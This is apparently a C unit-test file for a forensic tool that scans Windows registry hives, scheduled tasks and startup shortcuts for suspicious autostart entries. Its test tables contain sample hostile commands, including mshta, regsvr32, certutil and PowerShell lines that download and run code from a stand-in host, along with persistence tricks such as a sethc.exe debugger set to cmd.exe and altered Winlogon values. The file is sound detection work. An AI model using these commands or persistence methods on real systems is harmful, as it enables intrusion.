/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "hive_maker.h"
#include "os/entry.h"
#include "survey/hive.h"
#include "survey/survey.h"
#include "survey/windows_command.h"
#include "survey/windows_link.h"

#define VERSION "Microsoft\\Windows\\CurrentVersion\\"
#define VERSION_NT "Microsoft\\Windows NT\\CurrentVersion\\"
#define TASKS VERSION_NT "Schedule\\TaskCache\\"

/* --- command lines --- */

struct line {
	const char *line, *why, *program;
};

static void test_commands(void **state)
{
	(void)state;
	static const struct line lines[] = {
		{"", "", ""},
		{"\"C:\\Program Files\\A b\\c.exe\" /background", "",
			"C:\\Program Files\\A b\\c.exe"},
		{"C:\\Program Files\\A b\\c.exe /x", "", "C:\\Program Files\\A b\\c.exe"},
		{"%windir%\\system32\\SecurityHealthSystray.exe", "",
			"%windir%\\system32\\SecurityHealthSystray.exe"},
		{"C:\\Users\\an\\AppData\\Local\\Temp\\x.exe", "runs-from-temporary",
			"C:\\Users\\an\\AppData\\Local\\Temp\\x.exe"},
		{"%TEMP%\\x.exe", "runs-from-temporary", "%TEMP%\\x.exe"},
		{"C:\\Template\\x.exe C:\\Windows\\Temp\\log.txt", "", "C:\\Template\\x.exe"},
		{"C:\\Users\\an\\AppData\\Roaming\\x.exe", "runs-from-odd-folder", NULL},
		{"C:\\Users\\an\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe", "", NULL},
		{"C:\\Users\\an\\AppData\\Roaming\\Qwe\\x.exe", "runs-from-odd-folder", NULL},
		{"C:\\Users\\an\\AppData\\Local\\Programs\\Zalo\\Zalo.exe", "", NULL},
		{"C:\\Documents and Settings\\an\\Application Data\\x.exe", "runs-from-odd-folder",
			NULL},
		{"C:\\Documents and Settings\\an\\Local Settings\\Application Data\\A\\x.exe", "",
			NULL},
		{"C:\\$Recycle.Bin\\S-1-5-21\\x.exe", "runs-from-odd-folder", NULL},
		{"C:\\Users\\Public\\x.exe", "runs-from-odd-folder", NULL},
		{"C:\\ProgramData\\x.exe", "runs-from-odd-folder", NULL},
		{"C:\\ProgramData\\Package Cache\\{1}\\x.exe /burn.runonce", "", NULL},
		{"rundll32.exe C:\\Users\\an\\AppData\\Roaming\\x.dat,Start",
			"runs-from-odd-folder", "C:\\Users\\an\\AppData\\Roaming\\x.dat"},
		{"rundll32.exe C:\\WINDOWS\\system32\\advpack.dll,DelNodeRunDLL32 "
		 "\"C:\\Users\\an\\AppData\\Local\\Temp\\IXP000.TMP\\\"",
			"", "C:\\WINDOWS\\system32\\advpack.dll"},
		{"cmd.exe /q /c rmdir /s /q \"C:\\Users\\an\\AppData\\Local\\Temp\\x\"", "", NULL},
		{"cmd.exe /c del C:\\x & C:\\Users\\an\\AppData\\Local\\Temp\\x.exe",
			"runs-from-temporary", NULL},
		{"wscript.exe //B \"C:\\Users\\an\\AppData\\Roaming\\x.vbs\"",
			"runs-from-odd-folder", "C:\\Users\\an\\AppData\\Roaming\\x.vbs"},
		{"mshta.exe http://a.example/x.hta", "fetches-and-runs", NULL},
		{"mshta javascript:close(new ActiveXObject('WScript.Shell').Run('x'))",
			"fetches-and-runs", NULL},
		{"regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll", "fetches-and-runs",
			NULL},
		{"certutil -urlcache -split -f http://a.example/x y", "fetches-and-runs", NULL},
		{"powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://a')",
			"fetches-and-runs", NULL},
		{"powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgA", "decodes-and-runs",
			NULL},
		{"powershell.exe -ExecutionPolicy Bypass -File \"C:\\Program Files\\a\\b.ps1\"", "",
			"C:\\Program Files\\a\\b.ps1"},
		{"%COMSPEC% /c echo x > \\\\.\\pipe\\x", "opens-shell", NULL},
		{"C:\\Users\\an\\svchost.exe", "named-like-system", NULL},
		{"C:\\Windows\\system32\\svchost.exe -k netsvcs", "", NULL},
		{"\\SystemRoot\\System32\\drivers\\acpi.sys", "", NULL},
		{"\\??\\C:\\Windows\\system32\\csrss.exe", "", NULL},
		{"\"", "", ""},
		{"\\", "", "\\"},
		{".exe", "", ".exe"},
	};
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		const size_t size = strlen(lines[i].line);
		char *copy = malloc(size + (size == 0));
		assert_non_null(copy);
		memcpy(copy, lines[i].line, size);
		struct command c = windows_command_read((struct str){copy, size});
		if (!str_equal(c.why, str_from(lines[i].why)) ||
			(lines[i].program && !str_equal(c.program, str_from(lines[i].program))))
			fail_msg("%s: '%.*s' starts '%.*s'", lines[i].line, STR_ARG(c.why),
				STR_ARG(c.program));
		free(copy);
	}
}

/* --- registries --- */

struct seen {
	size_t entries, signs;
	char why[64], text[512], program[256];
};

static void keep(char *room, size_t capacity, struct str s)
{
	assert_true(s.size < capacity);
	memcpy(room, s.data, s.size);
	room[s.size] = '\0';
}

static enum err on_entry(void *context, const struct place_entry *e)
{
	struct seen *seen = context;
	seen->entries++;
	if (e->sign == SIGN_NONE && seen->signs > 0)
		return E_OK;
	seen->signs += e->sign != SIGN_NONE;
	keep(seen->why, sizeof(seen->why), e->why);
	keep(seen->text, sizeof(seen->text), e->text);
	keep(seen->program, sizeof(seen->program), e->program);
	return E_OK;
}

static struct seen read_content(
	const char *path, const uint8_t *content, size_t size, enum err expected)
{
	struct seen seen = {0};
	const struct place_sink sink = {&seen, on_entry};
	const struct place *place = survey_place_of(str_from(path));
	assert_non_null(place);
	assert_int_equal(
		place->read((struct bytes){content, size}, str_from(path), &sink), expected);
	return seen;
}

static struct seen read_made(const char *path, struct hive_maker *m)
{
	size_t size;
	uint8_t *content = hive_maker_end(m, &size);
	struct seen seen = read_content(path, content, size, E_OK);
	free(content);
	return seen;
}

#define SOFTWARE "Windows/System32/config/SOFTWARE"
#define SYSTEM "Windows/System32/config/SYSTEM"
#define PERSON "Users/an/NTUSER.DAT"

/* One value each: what it must give. */
static void test_values(void **state)
{
	(void)state;
	static const struct {
		const char *path, *key, *name, *text, *why;
	} rows[] = {
		{SOFTWARE, VERSION "RunOnce", "x", "%TEMP%\\x.exe", "runs-from-temporary"},
		{SOFTWARE, "Wow6432Node\\" VERSION "Run", "x", "%TEMP%\\x.exe",
			"runs-from-temporary"},
		{SOFTWARE, VERSION "Policies\\Explorer\\Run", "x", "C:\\Users\\Public\\x.exe",
			"runs-from-odd-folder"},
		{SOFTWARE, VERSION_NT "Winlogon", "Shell", "explorer.exe", ""},
		{SOFTWARE, VERSION_NT "Winlogon", "Shell", "explorer.exe, C:\\x\\y.exe",
			"logon-changed"},
		{SOFTWARE, VERSION_NT "Winlogon", "Userinit",
			"C:\\Windows\\system32\\userinit.exe,", ""},
		{SOFTWARE, VERSION_NT "Winlogon", "Userinit",
			"C:\\Windows\\system32\\userinit.exe,C:\\Windows\\system32\\sdra64.exe,",
			"logon-changed"},
		{SOFTWARE, VERSION_NT "Winlogon", "Userinit", "C:\\Users\\an\\userinit.exe,",
			"logon-changed"},
		{SOFTWARE, VERSION_NT "Windows", "AppInit_DLLs", "", ""},
		{SOFTWARE, VERSION_NT "Windows", "AppInit_DLLs", "C:\\Windows\\system32\\x.dll",
			"library-into-programs"},
		{SOFTWARE, VERSION_NT "Image File Execution Options\\sethc.exe", "Debugger",
			"cmd.exe", "started-instead"},
		{SOFTWARE, VERSION_NT "Image File Execution Options\\taskmgr.exe", "Debugger",
			"\"C:\\Tools\\PROCEXP64.EXE\"", ""},
		{SOFTWARE, VERSION_NT "Image File Execution Options\\x.exe", "GlobalFlag", "0x200",
			""},
		{SOFTWARE, VERSION_NT "SilentProcessExit\\x.exe", "MonitorProcess", "C:\\x\\y.exe",
			"started-instead"},
		{SOFTWARE, "Microsoft\\Active Setup\\Installed Components\\{1}", "StubPath",
			"%TEMP%\\x.exe", "runs-from-temporary"},
		{SYSTEM, "ControlSet001\\Services\\x", "ImagePath", "%TEMP%\\x.exe",
			"runs-from-temporary"},
		{SYSTEM, "ControlSet001\\Services\\x\\Parameters", "ServiceDll",
			"C:\\Users\\an\\AppData\\Roaming\\x.dll", "runs-from-odd-folder"},
		{SYSTEM, "ControlSet001\\Services\\x\\Parameters", "ServiceDll",
			"%SystemRoot%\\System32\\x.dll", ""},
		{PERSON, "Software\\" VERSION "Run", "Zalo",
			"C:\\Users\\an\\AppData\\Local\\Programs\\Zalo\\Zalo.exe", ""},
		{PERSON, "Software\\" VERSION "RunOnce", "x", "mshta http://a.example/",
			"fetches-and-runs"},
		{PERSON, "Software\\" VERSION_NT "Windows", "Load", "%TEMP%\\x.exe",
			"runs-from-temporary"},
		{PERSON, "Software\\" VERSION_NT "Winlogon", "Shell", "C:\\x\\y.exe",
			"logon-changed"},
		{PERSON, "Environment", "UserInitMprLogonScript", "%APPDATA%\\x.bat",
			"runs-from-odd-folder"},
	};
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct hive_maker *m = hive_maker_new();
		hive_maker_text(m, rows[i].key, rows[i].name, rows[i].text);
		struct seen seen = read_made(rows[i].path, m);
		if (strcmp(seen.why, rows[i].why) != 0)
			fail_msg("%s: %s = %s: '%s'", rows[i].key, rows[i].name, rows[i].text,
				seen.why);
	}
}

static void test_text_of_entry(void **state)
{
	(void)state;
	struct hive_maker *m = hive_maker_new();
	hive_maker_text(
		m, VERSION_NT "Image File Execution Options\\sethc.exe", "Debugger", "cmd.exe");
	struct seen seen = read_made(SOFTWARE, m);
	assert_string_equal(seen.text,
		VERSION_NT "Image File Execution Options\\sethc.exe: Debugger = cmd.exe");
	assert_string_equal(seen.program, "cmd.exe");
}

/* The set that is used is read, another is not; where none is said all are. */
static void test_control_sets(void **state)
{
	(void)state;
	for (uint32_t current = 0; current < 4; current++) {
		struct hive_maker *m = hive_maker_new();
		hive_maker_text(m, "ControlSet001\\Services\\x", "ImagePath", "%TEMP%\\x.exe");
		hive_maker_text(
			m, "ControlSet002\\Services\\x", "ImagePath", "system32\\drivers\\x.sys");
		if (current > 0)
			hive_maker_number(m, "Select", "Current", current);
		struct seen seen = read_made(SYSTEM, m);
		assert_int_equal(seen.signs, current != 2);
		assert_int_equal(seen.entries, current == 0 || current == 3 ? 2 : 1);
	}
}

static void wide(uint8_t **at, const char *text)
{
	for (; *text; text++) {
		*(*at)++ = (uint8_t)*text;
		*(*at)++ = 0;
	}
}

static void test_boot(void **state)
{
	(void)state;
	static const char *const texts[] = {"autocheck autochk *", "x y"};
	for (size_t n = 1; n <= 2; n++) {
		uint8_t data[128], *at = data;
		for (size_t i = 0; i < n; i++) {
			wide(&at, texts[i]);
			*at++ = 0;
			*at++ = 0;
		}
		*at++ = 0;
		*at++ = 0;
		struct hive_maker *m = hive_maker_new();
		hive_maker_bytes(m, "ControlSet001\\Control\\Session Manager", "BootExecute",
			HIVE_TEXTS, data, (size_t)(at - data));
		struct seen seen = read_made(SYSTEM, m);
		assert_int_equal(seen.entries, n);
		assert_string_equal(seen.why, n == 1 ? "" : "boot-program");
	}
}

static void put(uint8_t **at, uint32_t value, unsigned bytes)
{
	for (unsigned i = 0; i < bytes; i++)
		*(*at)++ = (uint8_t)(value >> 8 * i);
}

static void sized(uint8_t **at, const char *text)
{
	put(at, (uint32_t)strlen(text) * 2, 4);
	wide(at, text);
}

/* As Windows 10 writes it: author, a handler, a program. */
static size_t actions(uint8_t *data, const char *program, const char *words)
{
	uint8_t *at = data;
	put(&at, 3, 2);
	sized(&at, "Author");
	put(&at, 0x7777, 2);
	sized(&at, "");
	at += 16;
	sized(&at, "");
	put(&at, 0x6666, 2);
	sized(&at, "");
	sized(&at, program);
	sized(&at, words);
	sized(&at, "");
	put(&at, 0, 2);
	return (size_t)(at - data);
}

static void test_tasks(void **state)
{
	(void)state;
	static uint8_t data[1024];
	struct hive_maker *m = hive_maker_new();
	size_t size = actions(data, "%windir%\\system32\\defrag.exe", "-c");
	hive_maker_bytes(m, TASKS "Tasks\\{1}", "Actions", HIVE_BINARY, data, size);
	hive_maker_text(m, TASKS "Tree\\A\\b", "Id", "{1}");
	hive_maker_bytes(m, TASKS "Tree\\A\\b", "SD", HIVE_BINARY, "x", 1);
	struct seen seen = read_made(SOFTWARE, m);
	assert_int_equal(seen.entries, 1);
	assert_int_equal(seen.signs, 0);
	assert_string_equal(seen.program, "%windir%\\system32\\defrag.exe");
	m = hive_maker_new();
	size = actions(data, "powershell.exe", "-enc SQBFAFgA");
	hive_maker_bytes(m, TASKS "Tasks\\{2}", "Actions", HIVE_BINARY, data, size);
	seen = read_made(SOFTWARE, m);
	assert_string_equal(seen.why, "decodes-and-runs");
	/* Hidden from the list of tasks. */
	m = hive_maker_new();
	hive_maker_text(m, TASKS "Tree\\A\\c", "Id", "{3}");
	seen = read_made(SOFTWARE, m);
	assert_string_equal(seen.why, "task-hidden");
	/* Cut off anywhere. */
	for (size_t cut = 0; cut < size; cut += 3) {
		m = hive_maker_new();
		hive_maker_bytes(m, TASKS "Tasks\\{2}", "Actions", HIVE_BINARY, data, cut);
		read_made(SOFTWARE, m);
	}
}

/* What was not written back is said, after all that could be read. */
static void test_unfinished(void **state)
{
	(void)state;
	size_t size;
	struct hive_maker *m = hive_maker_new();
	hive_maker_text(m, VERSION "Run", "x", "%TEMP%\\x.exe");
	uint8_t *content = hive_maker_end(m, &size);
	content[4]++;
	assert_int_equal(read_content(SOFTWARE, content, size, E_BUSY).signs, 1);
	assert_int_equal(read_content(SOFTWARE, content, size - 4096, E_CORRUPT).signs <= 1, 1);
	free(content);
}

/* --- shortcuts --- */

/* With a path on this disk and words. */
static size_t make_link(uint8_t *data, const char *path, const char *words)
{
	uint8_t *at = data;
	const uint32_t size = (uint32_t)strlen(path) + 1;
	memset(data, 0, 76);
	put(&at, 76, 4);
	put(&at, 0x00021401, 4);
	at = data + 20;
	put(&at, 1 | 2 | 0x20 | 0x80, 4);
	at = data + 76;
	put(&at, 4, 2);
	put(&at, 0, 4);
	put(&at, 28 + size + 1, 4);
	put(&at, 28, 4);
	put(&at, 1, 4);
	put(&at, 0, 4);
	put(&at, 28, 4);
	put(&at, 0, 4);
	put(&at, 28 + size, 4);
	memcpy(at, path, size);
	at += size;
	*at++ = 0;
	put(&at, (uint32_t)strlen(words), 2);
	wide(&at, words);
	put(&at, 0, 4);
	return (size_t)(at - data);
}

#define LINK "Users/an/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.lnk"

static void test_links(void **state)
{
	(void)state;
	static uint8_t data[1024];
	size_t size = make_link(data, "C:\\Program Files\\a\\b.exe", "/start");
	struct seen seen = read_content(LINK, data, size, E_OK);
	assert_string_equal(seen.program, "C:\\Program Files\\a\\b.exe");
	assert_string_equal(seen.text, "x.lnk → \"C:\\Program Files\\a\\b.exe\" /start");
	assert_int_equal(seen.signs, 0);
	size = make_link(data, "C:\\Windows\\system32\\wscript.exe",
		"C:\\Users\\an\\AppData\\Roaming\\x.js");
	seen = read_content(LINK, data, size, E_OK);
	assert_string_equal(seen.why, "runs-from-odd-folder");
	assert_string_equal(seen.program, "C:\\Users\\an\\AppData\\Roaming\\x.js");
	/* Cut off and changed anywhere: from copies of just their size. */
	for (size_t i = 0; i < 2 * size; i++) {
		struct writer w;
		const size_t cut = i < size ? i : size;
		uint8_t *copy = malloc(cut + 1);
		assert_non_null(copy);
		memcpy(copy, data, cut);
		if (i >= size)
			copy[i - size] ^= 0xff;
		writer_init(&w, 1 << 20);
		enum err err = windows_link_read((struct bytes){copy, cut}, &w);
		assert_true(err == E_OK || err == E_SYNTAX || err == E_TRUNCATED);
		writer_release(&w);
		free(copy);
	}
}

static void test_startup(void **state)
{
	(void)state;
	static const uint8_t text[] = "[.ShellClassInfo]\r\n";
	assert_int_equal(read_content("ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/"
				      "desktop.ini",
				 text, sizeof(text) - 1, E_OK)
				 .entries,
		0);
	assert_string_equal(read_content("ProgramData/Microsoft/Windows/Start Menu/Programs/"
					 "Startup/x.vbs",
				    text, sizeof(text) - 1, E_OK)
				    .why,
		"program-in-startup");
}

/* --- where programs lie --- */

static void test_paths(void **state)
{
	(void)state;
	static const struct {
		const char *program, *place, *path;
	} rows[] = {
		{"C:\\Windows\\x.exe", SOFTWARE, "Windows/x.exe"},
		{"\\??\\C:\\Windows\\x.sys", SYSTEM, "Windows/x.sys"},
		{"%SystemRoot%\\system32\\x.exe", SYSTEM, "Windows/system32/x.exe"},
		{"\\SystemRoot\\x.sys", SYSTEM, "Windows/x.sys"},
		{"System32\\drivers\\x.sys", SYSTEM, "Windows/System32/drivers/x.sys"},
		{"cmd.exe", SOFTWARE, "Windows/System32/cmd.exe"},
		{"cmd", SOFTWARE, "Windows/System32/cmd.exe"},
		{"%APPDATA%\\x.exe", "/mnt/Users/Nguyễn An/NTUSER.DAT",
			"Users/Nguyễn An/AppData/Roaming/x.exe"},
		{"%APPDATA%\\x.exe", SOFTWARE, ""},
		{"%odd%\\x.exe", SOFTWARE, ""},
		{"\\\\server\\share\\x.exe", SOFTWARE, ""},
		{"", SOFTWARE, ""},
	};
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct writer w;
		writer_init(&w, 4096);
		survey_windows_path(str_from(rows[i].program), str_from(rows[i].place), &w);
		if (!str_equal(writer_view_str(&w), str_from(rows[i].path)))
			fail_msg("%s: '%.*s'", rows[i].program, STR_ARG(writer_view_str(&w)));
		writer_release(&w);
	}
}

static void test_find(void **state)
{
	(void)state;
	char path[] = "/tmp/find-XXXXXX";
	struct writer w;
	int root;
	assert_non_null(mkdtemp(path));
	assert_int_equal(entry_open_folder(AT_FDCWD, path, &root), E_OK);
	assert_int_equal(mkdirat(root, "WINDOWS", 0755), 0);
	assert_int_equal(mkdirat(root, "WINDOWS/System32", 0755), 0);
	close(openat(root, "WINDOWS/System32/CMD.exe", O_CREAT | O_WRONLY, 0600));
	assert_int_equal(symlinkat("WINDOWS", root, "Win"), 0);
	writer_init(&w, 4096);
	assert_int_equal(survey_find(root, STR("windows/SYSTEM32/cmd.EXE"), &w), E_OK);
	assert_string_equal((const char *)w.data, "WINDOWS/System32/CMD.exe");
	writer_clear(&w);
	/* What is behind a link is left to who opens it. */
	assert_int_equal(survey_find(root, STR("WIN/System32/x"), &w), E_OK);
	assert_string_equal((const char *)w.data, "Win/System32/x");
	writer_clear(&w);
	assert_int_equal(survey_find(root, STR("windows/x"), &w), E_NOTFOUND);
	assert_int_equal(survey_find(root, STR("windows/../windows"), &w), E_NOTFOUND);
	assert_int_equal(survey_find(root, STR(""), &w), E_NOTFOUND);
	assert_int_equal(w.size, 0);
	writer_release(&w);
	unlinkat(root, "Win", 0);
	unlinkat(root, "WINDOWS/System32/CMD.exe", 0);
	unlinkat(root, "WINDOWS/System32", AT_REMOVEDIR);
	unlinkat(root, "WINDOWS", AT_REMOVEDIR);
	file_close(&root);
	rmdir(path);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_commands),
		cmocka_unit_test(test_values),
		cmocka_unit_test(test_text_of_entry),
		cmocka_unit_test(test_control_sets),
		cmocka_unit_test(test_boot),
		cmocka_unit_test(test_tasks),
		cmocka_unit_test(test_unfinished),
		cmocka_unit_test(test_links),
		cmocka_unit_test(test_startup),
		cmocka_unit_test(test_paths),
		cmocka_unit_test(test_find),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
